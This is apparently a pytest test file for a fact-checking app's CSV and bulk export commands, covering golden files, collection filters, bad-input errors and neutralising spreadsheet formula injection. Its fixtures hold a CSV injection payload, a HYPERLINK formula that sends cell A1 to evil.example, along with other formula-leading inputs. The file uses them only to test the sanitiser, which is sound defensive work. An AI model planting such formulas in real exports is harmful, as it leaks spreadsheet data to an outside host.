"""The CSV of claims and bulk export (`factcheck export --all`): golden files for every format,
formula injection neutralised, the collection's filters, and bad input refused in one line.

The golden files in tests/data/export/ are what these fixtures export; after a deliberate change
to a writer, rewrite them with FACTCHECK_UPDATE_GOLDEN=1 and read the diff.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shlex
from pathlib import Path

import click.testing
import pytest
from click.testing import CliRunner
from flask.cli import ScriptInfo
from sqlmodel import Session, col, select, update

from factcheck.commands import cli
from factcheck.domain.articles import set_tags
from factcheck.domain.claims import update_details
from factcheck.domain.exports import export_selection
from factcheck.errors import InvalidInput
from factcheck.forms import ClaimDetails
from factcheck.models import Article, ClaimRevision, Correction, RatingScale
from factcheck.report import export_filename
from factcheck.report.csv_export import BOM, CSV_COLUMNS, claim_rows, claims_csv, claims_csv_chunks, neutralise
from tests.conftest import DATA, claims_of, html, login_as, post, rating

GOLDEN = DATA / "export"
UTF8_BOM = BOM.encode("utf-8")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for sources")'
CLAIMANT = 'Sen. "Bob" Smith, Jr.'
NON_ASCII = "Partly: «мир» is naïve —\nsee the ministry’s own map."


def golden(name: str, data: bytes) -> bytes:
    """The golden file's bytes (written from `data` first under FACTCHECK_UPDATE_GOLDEN=1)."""
    path = GOLDEN / name
    if os.environ.get("FACTCHECK_UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
    return path.read_bytes()


def rows_of(data: bytes) -> list[list[str]]:
    """A CSV file parsed back as a spreadsheet reads it: the byte-order mark dropped, RFC 4180."""
    assert data.startswith(UTF8_BOM)
    return list(csv.reader(io.StringIO(data[len(UTF8_BOM) :].decode("utf-8"), newline="")))


def as_dicts(data: bytes) -> list[dict[str, str]]:
    header, *rows = rows_of(data)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def invoke(app):
    """Run `factcheck ARGS...` against the test app; stdout and stderr apart, stdout as bytes too."""

    def run(*args: str):
        return CliRunner().invoke(cli, list(args), obj=ScriptInfo(create_app=lambda: app))

    return run


def save(client, claim_id: int, **fields: object):
    data = {"verdict": "", "rationale": "", "status": "in_progress", **{k: str(v) for k, v in fields.items()}}
    response = post(client, f"/claims/{claim_id}", data, htmx=True)
    assert response.status_code == 200, response.get_data(as_text=True)


def add_source(client, claim_id: int, **fields: str) -> None:
    response = post(client, f"/claims/{claim_id}/sources", {"stance": "context", "accessed": "2025-04-30", **fields}, htmx=True)
    assert response.status_code == 200, response.get_data(as_text=True)


def new_article(client, **fields: str) -> int:
    response = post(client, "/articles", fields)
    assert response.status_code == 303, response.get_data(as_text=True)
    return int(response.headers["Location"].rsplit("/", 1)[1])


@pytest.fixture
def collection(app, client, db, seed_text) -> list[int]:
    """Three articles, reviewed through the pages (the admin `client` reviews, the editor edna
    approves), with hostile text where a spreadsheet would run it, dated to fixed days:

    1. the seed (published 2025-04-28, tags peace-talks and ukraine): claim 2 published, with a
       formula for its rationale and two sources, one titled and published like formulas; claim 5
       with a claimant holding a comma and quotes, a summary starting with "-" and a rationale with
       a tab; claim 8 approved, then corrected, with non-ASCII text; claim 13 with a leading CR;
    2. on the free-text scale, from Reuters, published 2025-05-02: a conclusion starting with "-";
    3. undated, added 2025-04-15, tag ukraine, unreviewed.
    """
    edna = login_as(app, "editor", "edna")
    seed = new_article(client, text=seed_text, outlet="Ukraïnska Pravda", author="Olena Roshchyna",
                       url="https://example.org/battlefield")
    claims = claims_of(db, seed)
    second, fifth, eighth, thirteenth = claims[1].id, claims[4].id, claims[7].id, claims[12].id

    save(client, second, verdict=rating(db, "Mostly false").id, rationale=HYPERLINK, status="needs_second_review")
    add_source(client, second, url="https://example.org/hotline", title="+1 (555) 0100 hotline", publisher="@SUM(A1:A9)")
    add_source(client, second, url="https://www.understandingwar.org/a_(b)", title="ISW assessment", publisher="ISW",
               stance="refutes", quote="Russian forces advanced\nnear Toretsk.")
    for status in ("approved", "published"):
        save(edna, second, verdict=rating(db, "Mostly false").id, rationale=HYPERLINK, status=status)

    save(client, fifth, verdict=rating(db, "False").id, rationale="\tx marks the spot on the map.")
    save(client, eighth, verdict=rating(db, "True").id, rationale="Yes.", status="needs_second_review")
    add_source(client, eighth, url="https://example.org/map", stance="supports")
    save(edna, eighth, verdict=rating(db, "True").id, rationale="Yes.", status="approved")
    save(edna, eighth, verdict=rating(db, "Half true").id, rationale=NON_ASCII, status="approved", reason="Revised figures.")
    save(client, thirteenth, verdict=rating(db, "Not a claim").id, rationale="\rA question, not a claim.")

    free_text = db.exec(select(RatingScale).where(RatingScale.name == "Conclusion only (free text)")).one()
    prices = new_article(client, text="Prices rose 12% in May. The ministry denied it on Monday.", title="Prices in May",
                         outlet="Reuters", published="2025-05-02", rating_scale_id=str(free_text.id))
    save(client, claims_of(db, prices)[0].id, conclusion="-5% is the real figure", rationale="See the index.")

    undated = new_article(client, text="The council approved 40 new buses. Fares stay the same.", title="Buses",
                          outlet="Kyiv Independent")

    with Session(app.extensions["factcheck.engine"]) as session:
        set_tags(session, session.get(Article, seed), "Ukraine, Peace talks")
        set_tags(session, session.get(Article, undated), "ukraine")
        claim = claims_of(session, seed)[4]
        update_details(session, claim, ClaimDetails(claimant=CLAIMANT, summary="-40 villages taken, officials say",
                                                    claim_url="https://example.org/speech", claim_date="2025-04-27"))
        # The history's clock, fixed: who signed off stays, the days no longer depend on today.
        session.exec(update(ClaimRevision).values(changed=dt.datetime(2025, 5, 3, 9, 30, tzinfo=dt.UTC)))
        session.exec(update(Correction).values(created=dt.datetime(2025, 5, 4, 8, 0, tzinfo=dt.UTC)))
        session.exec(update(Article).where(col(Article.id) == undated).values(created=dt.datetime(2025, 4, 15, 23, 59, tzinfo=dt.UTC)))
        session.commit()
    return [seed, prices, undated]


# --- The CSV writer ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 (555) 0100", "'+1 (555) 0100"),
        ("-40 villages", "'-40 villages"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tx", "'\tx"),
        ("\rx", "'\nx"),  # line breaks in a cell are LF, once the apostrophe is in
        ("a\r\nb\rc", "a\nb\nc"),
        ("Safe = text", "Safe = text"),
        (" =1+1", " =1+1"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(cell, written):
    assert neutralise(cell) == written


def record(article_id: int, title: str, *claims: dict) -> dict:
    """A minimal article record, as factcheck.domain.records.article_record builds it."""
    article = {"id": article_id, "title": title, "published": None, "url": "", "outlet": "", "author": "", "tags": []}
    claim = {"id": 0, "text": "", "status": "to_review", "verdict": None, "conclusion": "", "rationale": "",
             "checkworthiness": None, "sources": [], "corrections": []}
    return {"article": article, "rating_scale": {"name": "S"}, "claims": [claim | c for c in claims]}


def test_numbers_we_write_stay_numbers_and_missing_values_are_empty():
    row = next(claim_rows(record(7, "-Title", {"id": 42, "checkworthiness": 0.54, "text": "+A."})))
    cells = dict(zip(CSV_COLUMNS, row, strict=True))
    assert (cells["article_id"], cells["claim_id"], cells["claim_number"], cells["checkworthiness"]) == ("7", "42", "1", "0.54")
    assert (cells["article_title"], cells["claim"]) == ("'-Title", "'+A.")
    assert cells["claim_date"] == cells["reviewer"] == cells["verdict"] == cells["sources"] == ""
    assert cells["corrections"] == "0"


def test_the_collection_is_written_a_record_at_a_time():
    taken: list[int] = []

    def records():
        for number in (1, 2):
            taken.append(number)
            yield record(number, f"Article {number}", {"id": number, "text": "A."})

    chunks = claims_csv_chunks(records())
    assert next(chunks) == (BOM + ",".join(CSV_COLUMNS) + "\r\n").encode("utf-8") and taken == []
    assert next(chunks).startswith(b"1,Article 1,") and taken == [1]
    assert next(chunks).startswith(b"2,Article 2,") and taken == [1, 2]
    assert next(chunks, None) is None


# --- One article's CSV: the download, the golden file ------------------------------------------


def test_the_csv_download_matches_its_golden_file_and_the_command(client, collection, invoke):
    seed = collection[0]
    response = client.get(f"/articles/{seed}/claims.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    title = html(client.get(f"/articles/{seed}")).find("h1").get_text()
    assert response.headers["Content-Disposition"] == f'attachment; filename="{export_filename(seed, title, "csv")}"'
    assert response.data == golden("seed-article.csv", response.data)
    assert client.get(f"/articles/{seed}/claims.csv").data == response.data  # same data, same bytes
    result = invoke("export", str(seed), "--format", "csv")
    assert result.exit_code == 0, result.stderr
    assert result.stdout_bytes == response.data


def test_the_csv_opens_as_one_row_per_claim_with_injection_neutralised(client, collection):
    data = client.get(f"/articles/{collection[0]}/claims.csv").data
    assert data.count(UTF8_BOM) == 1
    assert data.count(b"\r") == data.count(b"\r\n") == 26  # CRLF ends the header and 25 rows; nothing else
    header, *rows = rows_of(data)
    assert tuple(header) == CSV_COLUMNS
    assert len(rows) == 25 and all(len(row) == len(CSV_COLUMNS) for row in rows)
    claims = as_dicts(data)
    assert [c["claim_number"] for c in claims] == [str(n) for n in range(1, 26)]
    assert all(c["article_id"] == str(collection[0]) and c["claim_id"].isdigit() for c in claims)
    first = claims[0]
    assert first["article_title"] == "From Battlefield To Bargaining Table: Russia’s Gains Shape Ukraine War Negotiations"
    assert (first["outlet"], first["article_author"], first["article_url"]) == (
        "Ukraïnska Pravda", "Olena Roshchyna", "https://example.org/battlefield")
    assert (first["article_published"], first["tags"], first["rating_scale"]) == ("2025-04-28", "peace-talks; ukraine",
                                                                                  "Truth-O-Meter (7 labels)")
    assert first["claim"].startswith("Russian forces are making gradual territorial gains")

    published = claims[1]
    assert (published["verdict"], published["status"], published["reviewer"], published["approver"]) == (
        "Mostly false", "published", "admin", "edna")
    assert (published["approved_on"], published["published_on"]) == ("2025-05-03", "2025-05-03")
    assert published["rationale"] == "'" + HYPERLINK
    assert published["sources"] == (
        "'+1 (555) 0100 hotline <https://example.org/hotline> (@SUM(A1:A9), accessed 2025-04-30, context)\n"
        "ISW assessment <https://www.understandingwar.org/a_(b)> (ISW, accessed 2025-04-30, refutes)"
    )

    detailed = claims[4]
    assert (detailed["claimant"], detailed["summary"]) == (CLAIMANT, "'-40 villages taken, officials say")
    assert (detailed["claim_url"], detailed["claim_date"]) == ("https://example.org/speech", "2025-04-27")
    assert (detailed["verdict"], detailed["status"], detailed["rationale"]) == ("False", "in_progress",
                                                                               "'\tx marks the spot on the map.")
    corrected = claims[7]
    assert (corrected["verdict"], corrected["status"], corrected["corrections"]) == ("Half true", "needs_second_review", "1")
    assert (corrected["rationale"], corrected["reviewer"]) == (NON_ASCII, "edna")
    assert corrected["sources"] == "<https://example.org/map> (accessed 2025-04-30, supports)"
    assert claims[12]["rationale"] == "'\nA question, not a claim."
    assert all(c["checkworthiness"] and float(c["checkworthiness"]) <= 1 for c in claims)
    # What a spreadsheet would run: no cell of text starts so.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(("fmt", "name"), [("md", "seed-article.md"), ("json", "seed-article.json")])
def test_the_report_and_the_record_match_their_golden_files(invoke, collection, fmt, name):
    result = invoke("export", str(collection[0]), "--format", fmt)
    assert result.exit_code == 0, result.stderr
    assert result.stdout_bytes == golden(name, result.stdout_bytes)
    assert invoke("export", str(collection[0]), "--format", fmt).stdout_bytes == result.stdout_bytes


def test_the_review_page_offers_the_csv_to_every_signed_in_user(app, anonymous, collection):
    seed = collection[0]
    reviewer = login_as(app, "reviewer", "rita")  # not assigned to it: reading is everyone's
    link = html(reviewer.get(f"/articles/{seed}")).find("a", string="Download CSV")
    assert link["href"] == f"/articles/{seed}/claims.csv" and link.has_attr("download")
    assert reviewer.get(link["href"]).status_code == 200
    assert anonymous.get(link["href"]).status_code in (302, 303)
    assert reviewer.get("/articles/999/claims.csv").status_code == 404


# --- Bulk export -------------------------------------------------------------------------------


def test_all_as_csv_writes_one_file_of_every_claim(invoke, client, collection, tmp_path):
    out = tmp_path / "exports" / "all"
    result = invoke("export", "--all", "--format", "csv", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert result.stderr == f"Exported 3 articles (29 claims) to {out}.\n" and result.stdout == ""
    assert sorted(p.name for p in out.iterdir()) == ["claims.csv"]
    data = (out / "claims.csv").read_bytes()
    assert data == golden("claims.csv", data)
    # The header once, then each article's rows as its own CSV has them, in article order.
    singles = [client.get(f"/articles/{article}/claims.csv").data for article in collection]
    header = singles[0].split(b"\r\n", 1)[0] + b"\r\n"
    assert data == header + b"".join(single[len(header) :] for single in singles)
    prices = [c for c in as_dicts(data) if c["article_id"] == str(collection[1])]
    assert (prices[0]["verdict"], prices[0]["rating_scale"]) == ("'-5% is the real figure", "Conclusion only (free text)")


@pytest.mark.parametrize("fmt", ["md", "json"])
def test_all_as_md_or_json_writes_each_article_as_its_single_export(invoke, collection, tmp_path, fmt):
    out = tmp_path / "out"
    result = invoke("export", "--all", "--format", fmt, "-o", str(out))
    assert result.exit_code == 0, result.stderr
    titles = {article: json.loads(invoke("export", str(article), "--format", "json").stdout)["article"]["title"]
              for article in collection}
    names = {export_filename(article, titles[article], fmt): article for article in collection}
    assert sorted(p.name for p in out.iterdir()) == sorted(names)
    for name, article in names.items():
        assert (out / name).read_bytes() == invoke("export", str(article), "--format", fmt).stdout_bytes
    assert (out / export_filename(collection[0], titles[collection[0]], fmt)).read_bytes() == (
        GOLDEN / f"seed-article.{fmt}").read_bytes()


def test_exporting_again_gives_the_same_files(invoke, collection, tmp_path):
    out = tmp_path / "out"
    for fmt in ("md", "json", "csv"):
        assert invoke("export", "--all", "--format", fmt, "-o", str(out)).exit_code == 0
    first = {p.name: p.read_bytes() for p in out.iterdir()}
    assert len(first) == 7  # three .md, three .json, claims.csv: no partial files left over
    for fmt in ("md", "json", "csv"):
        assert invoke("export", "--all", "--format", fmt, "-o", str(out)).exit_code == 0
    assert {p.name: p.read_bytes() for p in out.iterdir()} == first


@pytest.mark.parametrize(
    ("options", "chosen"),
    [
        ([], [0, 1, 2]),
        (["--from", "2025-04-28"], [0, 1]),
        (["--to", "2025-04-28"], [0, 2]),
        (["--from", "2025-04-15", "--to", "2025-04-15"], [2]),  # undated: the day it was added
        (["--from", "2025-04-16", "--to", "2025-04-27"], []),
        (["--from", "2025-04-29", "--to", "2025-05-02"], [1]),
        (["--outlet", "REUTERS"], [1]),
        (["--outlet", "  ukraïnska   pravda "], [0]),
        (["--tag", "Ukraine"], [0, 2]),
        (["--tag", "peace talks"], [0]),
        (["--tag", "ukraine", "--to", "2025-04-20"], [2]),
        (["--tag", "ukraine", "--outlet", "Reuters"], []),
    ],
)
def test_the_collection_filters(db, collection, options, chosen):
    it = iter(options)
    given = {{"--from": "published_from", "--to": "published_to", "--outlet": "outlet", "--tag": "tag"}[flag]: value
             for flag, value in zip(it, it, strict=True)}
    for day in ("published_from", "published_to"):
        if day in given:
            given[day] = dt.date.fromisoformat(given[day])
    assert export_selection(db, **given) == [collection[n] for n in chosen]


def test_the_filters_choose_what_the_command_writes(invoke, collection, tmp_path):
    out = tmp_path / "out"
    result = invoke("export", "--all", "--format", "csv", "--tag", "ukraine", "--from", "2025-04-01", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert result.stderr == f"Exported 2 articles (27 claims) to {out}.\n"
    assert sorted({c["article_id"] for c in as_dicts((out / "claims.csv").read_bytes())}) == [
        str(collection[0]), str(collection[2])]


@pytest.mark.parametrize(("tag", "message"), [("a, b", "'a, b' is 2 tags"), ("--", "'--' is no tag")])
def test_the_tag_filter_takes_one_tag(db, tag, message):
    with pytest.raises(InvalidInput, match=message):
        export_selection(db, tag=tag)


def test_the_progress_bar_goes_to_stderr_on_a_terminal(invoke, collection, tmp_path, monkeypatch):
    monkeypatch.setattr(click.testing._NamedTextIOWrapper, "isatty", lambda _self: True)
    result = invoke("export", "--all", "--format", "json", "-o", str(tmp_path / "out"))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    bar, summary = result.stderr.rsplit("\n", 2)[:2]
    assert "Exporting 3 articles" in bar and "100%" in bar and f"article {collection[2]}" in bar
    assert summary == f"Exported 3 articles (29 claims) to {tmp_path / 'out'}."


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["1", "--all", "-o", "{out}"], "Error: give an article ID or --all, not both"),
        ([], "Error: give an article ID, or --all"),
        (["--all"], "Error: --all writes files: give the folder with -o DIR"),
        (["--all", "-o", "{file}"], "is a file: --all writes into a folder"),
        (["--all", "-o", "{out}", "--from", "2025-02-30"], "Error: --from '2025-02-30' is not a day: give it as YYYY-MM-DD."),
        (["--all", "-o", "{out}", "--to", "28/04/2025"], "Error: --to '28/04/2025' is not a day: give it as YYYY-MM-DD."),
        (["--all", "-o", "{out}", "--from", "2025-05-01", "--to", "2025-04-01"], "Error: The dates are the wrong way round"),
        (["--all", "-o", "{out}", "--tag", "elections 2030"], "Error: no article to export: none matches --tag 'elections 2030'"),
        (["--all", "-o", "{out}", "--format", "xlsx"], "Error: Invalid value for '--format': 'xlsx' is not one of md, json, csv, claimreview."),
        (["1", "--format", "pdf"], "Error: Invalid value for '--format': 'pdf' is not one of md, json, csv, claimreview."),
        (["1", "--outlet", "Reuters"], "Error: --from, --to, --outlet and --tag choose the articles of --all, not of an ID"),
        (["1", "-o", "{folder}"], "it is a folder"),
        (["999", "--format", "csv"], "Error: there is no article 999"),
    ],
)
def test_bad_input_is_one_line_and_writes_nothing(invoke, collection, tmp_path, args, message):
    (tmp_path / "file.txt").write_text("kept")
    (tmp_path / "folder").mkdir()
    out = tmp_path / "out"
    paths = {"out": str(out), "file": str(tmp_path / "file.txt"), "folder": str(tmp_path / "folder")}
    result = invoke("export", *(arg.format(**paths) for arg in args))
    assert result.exit_code != 0
    assert len(result.stderr.splitlines()) == 1 and message in result.stderr, result.stderr
    assert result.stdout == ""
    assert not out.exists() and (tmp_path / "file.txt").read_text() == "kept"
    assert not any((tmp_path / "folder").iterdir())


def test_the_empty_database_has_nothing_to_export(invoke, tmp_path):
    result = invoke("export", "--all", "-o", str(tmp_path / "out"))
    assert (result.exit_code, result.stderr) == (1, "Error: no article to export\n")
    assert not (tmp_path / "out").exists()


def test_an_export_that_fails_half_way_leaves_no_half_written_file(invoke, collection, tmp_path, monkeypatch):
    import factcheck.commands

    out = tmp_path / "out"
    out.mkdir()
    (out / "claims.csv").write_bytes(b"the last complete export")
    real = factcheck.commands.article_record

    def fails_on_the_second(session, article):
        if article.id == collection[1]:
            raise RuntimeError("the database went away")
        return real(session, article)

    monkeypatch.setattr(factcheck.commands, "article_record", fails_on_the_second)
    result = invoke("export", "--all", "--format", "csv", "-o", str(out))
    assert result.exit_code != 0 and isinstance(result.exception, RuntimeError)
    assert sorted(p.name for p in out.iterdir()) == ["claims.csv"]
    assert (out / "claims.csv").read_bytes() == b"the last complete export"


def test_a_single_export_to_a_file_writes_the_same_bytes(invoke, collection, tmp_path):
    out = tmp_path / "out" / "claims-1.csv"
    out.parent.mkdir()
    result = invoke("export", str(collection[0]), "--format", "csv", "-o", str(out))
    assert result.exit_code == 0 and result.stdout == "" and result.stderr == ""
    assert out.read_bytes() == (GOLDEN / "seed-article.csv").read_bytes()
    assert [p.name for p in out.parent.iterdir()] == ["claims-1.csv"]


def test_claims_csv_is_the_chunks_joined():
    one = record(3, "T", {"id": 1, "text": "A."}, {"id": 2, "text": "B."})
    assert claims_csv(one) == b"".join(claims_csv_chunks([one]))
    assert len(rows_of(claims_csv(one))) == 3


def test_the_readme_commands_run_as_written(invoke, collection, tmp_path, monkeypatch):
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    section = readme.split("### CSV and bulk export", 1)[1].split("\n## ", 1)[0]
    commands = [shlex.split(line)[1:] for line in section.splitlines() if line.startswith(".venv/bin/factcheck ")]
    assert [c[:2] for c in commands] == [["export", "--all"], ["export", "--all"]]
    monkeypatch.chdir(tmp_path)
    results = [invoke(*command) for command in commands]
    assert [(r.exit_code, r.stderr) for r in results] == [
        (0, "Exported 3 articles (29 claims) to exports.\n"), (0, "Exported 2 articles (27 claims) to exports/april.\n")
    ]
    assert (tmp_path / "exports" / "claims.csv").read_bytes() == (GOLDEN / "claims.csv").read_bytes()
    assert len(list((tmp_path / "exports" / "april").glob("*.md"))) == 2
